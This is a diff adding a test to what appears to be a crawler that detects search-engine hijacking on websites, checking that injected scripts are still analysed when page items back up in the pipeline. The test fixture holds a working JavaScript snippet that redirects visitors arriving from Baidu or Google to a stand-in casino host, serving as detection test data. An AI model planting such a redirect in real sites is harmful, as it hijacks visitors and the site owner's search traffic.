@@ -70,3 +70,46 @@ def test_a_profile_view_that_is_not_html_keeps_its_row(sqlite_url: str, tmp_path
     engine.dispose()
     assert set(rows) == {"browser", "googlebot", "search-baidu"}, rows
     assert rows["googlebot"].content_type.startswith("text/plain")
+
+
+KIT = (
+    b'var r=document.referrer;if(r.indexOf("baidu")>-1||r.indexOf("google")>-1)'
+    b'{window.location.href="http://casino-royal.example/?from="+location.host;}'
+)
+
+
+def test_scripts_are_fetched_while_waiting_pages_fill_the_scraper(
+    sqlite_url: str, tmp_path: Path
+) -> None:
+    """Page items wait in the pipelines for their scripts' analyses. Once enough of them
+    wait (here: any one), the engine takes no more requests from the scheduler; scripts
+    queued there would arrive only after HIJACKWATCH_SCRIPT_WAIT, and the pages would be
+    stored without their script findings."""
+    links = "".join(f'<a href="/p{n}.html">p{n}</a>' for n in range(4))
+    pages = {"/": Page(html_page("Town hall", f"<p>News.</p>{links}").encode())}
+    for n in range(4):
+        body = f'<p>Notice {n}.</p><script src="/js/kit{n}.js"></script>'
+        pages[f"/p{n}.html"] = Page(html_page(f"Notice {n}", body).encode())
+        pages[f"/js/kit{n}.js"] = Page(KIT, content_type="application/javascript")
+    site = SiteSpec("townhall", pages)
+    with FixtureWeb(sites=[site], first_address=122) as web:
+        seeds = tmp_path / "seeds.txt"
+        web.write_seeds(str(seeds))
+        result = run_cli(
+            "crawl", str(seeds), "--db", sqlite_url, "-q", *FAST,
+            "-s", "HIJACKWATCH_PROFILE_MODE=off",
+            "-s", "SCRAPER_SLOT_MAX_ACTIVE_SIZE=1",
+            "-s", "HIJACKWATCH_SCRIPT_WAIT=4",
+        )  # fmt: skip
+    assert result.returncode in (0, 1), result.stderr[-3000:]
+    engine = create_engine(sqlite_url)
+    with engine.connect() as conn:
+        rows = conn.execute(
+            text(
+                "SELECT p.url, count(f.id) AS n FROM pages p LEFT JOIN findings f"
+                " ON f.page_id = p.id AND f.evidence LIKE '%kit%' GROUP BY p.url"
+            )
+        ).all()
+    engine.dispose()
+    flagged = {url.rsplit("/", 1)[-1]: n for url, n in rows}
+    assert all(flagged[f"p{n}.html"] >= 1 for n in range(4)), flagged
